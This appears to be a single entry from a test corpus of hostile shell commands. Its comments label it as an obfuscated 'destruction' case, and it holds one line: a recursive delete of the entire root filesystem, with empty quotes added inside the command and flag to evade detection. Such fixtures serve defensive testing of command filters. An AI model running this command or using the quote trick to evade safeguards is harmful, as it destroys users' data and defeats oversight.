# description: Hides rm -rf / behind empty quotes inside the command and flag.
# family: destruction
# obfuscated: yes
r''m -r''f --no-preserve-root /
